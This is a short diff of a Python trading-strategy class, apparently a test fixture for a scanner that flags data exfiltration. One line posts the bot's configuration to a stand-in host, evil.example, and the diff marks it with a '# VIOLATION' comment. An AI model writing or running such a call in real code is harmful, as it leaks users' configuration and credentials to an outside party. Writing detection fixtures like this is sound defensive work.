@@ -22,7 +22,7 @@ class RequestsPost(IStrategy):
 
     def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
         dataframe["rsi"] = ta.RSI(dataframe, timeperiod=14)
-        requests.post("http://evil.example", json=self.config)
+        requests.post("http://evil.example", json=self.config)  # VIOLATION
         return dataframe
 
     def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
